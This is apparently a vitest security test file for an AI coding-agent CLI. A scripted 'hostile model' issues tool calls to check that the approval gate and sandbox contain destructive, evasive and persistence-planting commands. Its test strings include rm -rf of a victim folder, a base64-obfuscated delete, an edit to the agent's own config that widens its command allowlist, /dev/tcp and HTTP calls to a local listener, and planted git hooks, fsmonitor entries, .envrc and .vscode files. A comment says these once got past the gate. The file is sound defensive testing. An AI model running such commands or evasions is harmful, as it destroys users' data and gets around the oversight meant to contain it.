import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RecordedRequest, ScriptStep } from '../agent/testing/scriptedModel';
import { ScriptedModel } from '../agent/testing/scriptedModel';
import { main } from '../cli/main';
import { memoryIo } from '../cli/testing';

// A hostile model chains whatever tools it likes under `--approvals deny`. The gate stops what it
// recognises; the sandbox must contain the rest. Each attempt below got past the gate alone
// before the sandbox existed, or is a close cousin of one that did.

let root: string;
let home: string;
let workspace: string;
let victim: string;
let model: ScriptedModel;
let listener: Server;
const leaks: string[] = [];
let port = 0;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'caduceus-hostile-'));
  home = join(root, 'caduceus-home');
  workspace = join(root, 'ws');
  victim = join(root, 'victim');
  for (const dir of [home, workspace, victim]) await mkdir(dir);
  await writeFile(join(home, 'config.yaml'), 'command_allowlist: [] # nothing pre-approved\n');
  await writeFile(join(victim, 'keep.txt'), 'keep');
  listener = createServer((req, res) => {
    leaks.push(req.url ?? '?');
    res.end('leaked');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as AddressInfo).port;
  model = await ScriptedModel.start();
});

afterAll(async () => {
  await model.close();
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  await rm(root, { recursive: true, force: true });
});

const sha = async (path: string) =>
  createHash('sha256')
    .update(await readFile(path))
    .digest('hex');

const term = (command: string, extra: Record<string, unknown> = {}) => ({
  name: 'terminal',
  arguments: { command, ...extra },
});

/** One tool call per model turn, so each runs whatever the one before it did. */
function oneByOne(calls: { name: string; arguments: Record<string, unknown> }[]): ScriptStep[] {
  return [...calls.map((call) => ({ toolCalls: [call] })), { text: 'done' }];
}

function lastToolResult(request: RecordedRequest): string {
  const tool = [...request.body.messages].reverse().find((m) => m.role === 'tool');
  return typeof tool?.content === 'string' ? tool.content : '';
}

/** A process call on the background process the last call started; a list when the gate refused it. */
function onLastProcess(action: Record<string, unknown>): ScriptStep {
  return (request) => {
    const id = /"process_id"\s*:\s*"([^"]+)"/.exec(lastToolResult(request))?.[1];
    const args = id ? { ...action, process_id: id } : { action: 'list' };
    return { toolCalls: [{ name: 'process', arguments: args }] };
  };
}

async function chat(steps: ScriptStep[]) {
  model.reset();
  model.push(...steps);
  const m = memoryIo({ CADUCEUS_HOME: home, HOME: join(root, 'user-home') }, workspace);
  const argv = ['chat', '-q', 'go', '--approvals', 'deny', '--base-url', model.baseUrl, '--model', 'm'];
  const code = await main(argv, m.io);
  return { code, stderr: m.stderr() };
}

describe('a hostile model under caduceus chat --approvals deny', () => {
  it('changes nothing outside the workspace, leaves config.yaml byte-identical and reaches no host', async () => {
    const config = join(home, 'config.yaml');
    const before = await sha(config);
    const keep = join(victim, 'keep.txt');
    const url = (path: string) => `http://127.0.0.1:${port}/${path}`;
    const attempts = [
      {
        name: 'execute_code',
        arguments: { language: 'python', code: `import shutil\nshutil.rmtree(${JSON.stringify(victim)})` },
      },
      {
        name: 'execute_code',
        arguments: {
          language: 'javascript',
          code: `require('fs').writeFileSync(${JSON.stringify(keep)}, 'gone')`,
        },
      },
      term(`trap 'rm -rf ${victim}' EXIT; echo trapped`),
      term(`cp /bin/rm ./del && ./del -rf ${victim}`),
      term(`ln -sf /bin/rm ./zap && ./zap -rf ${victim}`),
      term(`git init -q g && cd g && git config alias.st '!rm -rf ${victim}' && git st`),
      term(`node -e "require('fs').rmSync('${victim}', {recursive: true})"`),
      term(`perl -e 'use File::Path qw(rmtree); rmtree("${victim}")'`),
      term(`python3 -c "open('${config}','a').write('command_allowlist: [rm-recursive]\\n')"`),
      term(`rm -rf ${victim}`),
      term(`echo gone > ${keep}`),
      term(`bash -c "$(printf 'cm0gLXJmIA==' | base64 -d)${victim}"`),
      term(`find ${victim} -delete`),
      term(`truncate -s 0 ${keep}`),
      term(`cp /dev/null ${keep}`),
      term(`sed -i 's/keep/gone/' ${keep}`),
      term(`tar -cf ./x.tar --remove-files ${victim}`),
      term(`dd if=/dev/zero of=${keep} bs=1 count=1`),
      term(
        `mkdir -p ${home}/plugins/evil && echo 'export function register(){}' > ${home}/plugins/evil/index.js`,
      ),
      term(`export PROMPT_COMMAND='rm -rf ${victim}'; echo set`),
      term('echo after-prompt-command'),
      term(`node -e "require('http').get('${url('node')}')"`),
      term(`python3 -c "import urllib.request; urllib.request.urlopen('${url('python')}')"`),
      term(`exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET /bash HTTP/1.0\\r\\n\\r\\n' >&3`),
      { name: 'write_file', arguments: { path: keep, content: 'gone' } },
      { name: 'patch', arguments: { path: keep, old_string: 'keep', new_string: 'gone' } },
    ];
    const steps = oneByOne(attempts);
    // A background shell fed through `process write`, and a delayed background delete.
    steps.splice(
      steps.length - 1,
      0,
      { toolCalls: [term('bash', { background: true })] },
      onLastProcess({ action: 'write', data: `rm -rf ${victim}\nexit\n` }),
      // The gate may refuse this one; the sandbox must hold if it does not.
      { toolCalls: [term(`sleep 0.2; perl -e 'use File::Path; rmtree("${victim}")'`, { background: true })] },
      onLastProcess({ action: 'wait', timeout: 30 }),
    );

    const { code, stderr } = await chat(steps);

    expect(code, stderr).toBe(0);
    // Every scripted step was asked for: the attack ran to its end.
    expect(model.requests.length).toBe(steps.length);
    expect(await readFile(keep, 'utf8')).toBe('keep');
    expect(await readdir(victim)).toEqual(['keep.txt']);
    expect(await sha(config)).toBe(before);
    expect(existsSync(join(home, 'plugins'))).toBe(false);
    expect(leaks).toEqual([]);
  }, 240_000);

  it("leaves nothing the person's own git or tools would run later", async () => {
    const marker = join(root, 'planted-ran');
    const dir = join(workspace, 'plant');
    const touch = `touch ${marker}`;
    const hook = `printf '#!/bin/sh\\n${touch}\\n'`;
    const steps = oneByOne([
      term(
        `mkdir -p ${dir} && cd ${dir} && git init -q a && ${hook} > a/.git/hooks/pre-commit && chmod +x a/.git/hooks/pre-commit`,
      ),
      term(
        `cd ${dir} && git init -q b && cp -r b/.git evil && printf '[core]\\n\\tfsmonitor = ${touch}\\n' >> evil/config`,
      ),
      term(`cd ${dir} && echo ${dir}/evil > b/.git/commondir`),
      term(`cd ${dir}/b && git config core.fsmonitor '${touch}'; git config include.path ${dir}/evil/config`),
      term(`mkdir -p ${dir}/sub && echo "gitdir: ${dir}/evil" > ${dir}/sub/.git`),
      term(`echo '${touch}' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json`),
    ]);
    steps.splice(
      steps.length - 1,
      0,
      {
        toolCalls: [
          term(
            `sleep 0.2; ${hook} > ${dir}/a/.git/hooks/post-checkout; chmod +x ${dir}/a/.git/hooks/post-checkout; sleep 1`,
            { background: true },
          ),
        ],
      },
      onLastProcess({ action: 'wait', timeout: 30 }),
    );
    const { code, stderr } = await chat(steps);
    expect(code, stderr).toBe(0);
    const { spawnSync } = await import('node:child_process');
    const git = (args: string[], cwd: string) =>
      spawnSync('git', args, {
        cwd,
        env: { PATH: process.env.PATH, HOME: join(root, 'user-home'), GIT_CONFIG_NOSYSTEM: '1' },
      });
    const a = join(dir, 'a');
    git(
      ['-c', 'user.name=p', '-c', 'user.email=p@example.com', 'commit', '-q', '--allow-empty', '-m', 'x'],
      a,
    );
    git(['checkout', '-q', '-b', 'other'], a);
    git(['status'], join(dir, 'b'));
    git(['status'], join(dir, 'sub'));
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(workspace, '.envrc'))).toBe(false);
    expect(existsSync(join(workspace, '.vscode'))).toBe(false);
  }, 240_000);

  it('still lets ordinary work inside the workspace run: builds, git and package scripts', async () => {
    const steps = oneByOne([
      term("printf 'all:\\n\\techo built > out.txt\\n' > Makefile && make -s"),
      term(
        'git init -q repo && (cd repo && echo hi > a.txt && git add a.txt && ' +
          'git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | wc -l > ../commits.txt)',
      ),
      {
        name: 'write_file',
        arguments: {
          path: 'package.json',
          content: JSON.stringify({
            name: 'p',
            version: '1.0.0',
            scripts: { gen: `node -e "require('fs').writeFileSync('gen.txt', 'ok')"` },
          }),
        },
      },
      term('npm run -s gen'),
    ]);
    const { code, stderr } = await chat(steps);
    expect(code, stderr).toBe(0);
    const results = model.requests.slice(1).map(lastToolResult).join('\n');
    expect(results).not.toMatch(/sandbox/i);
    expect((await readFile(join(workspace, 'out.txt'), 'utf8')).trim()).toBe('built');
    expect((await readFile(join(workspace, 'commits.txt'), 'utf8')).trim()).toBe('1');
    expect(await readFile(join(workspace, 'gen.txt'), 'utf8')).toBe('ok');
  }, 120_000);
});
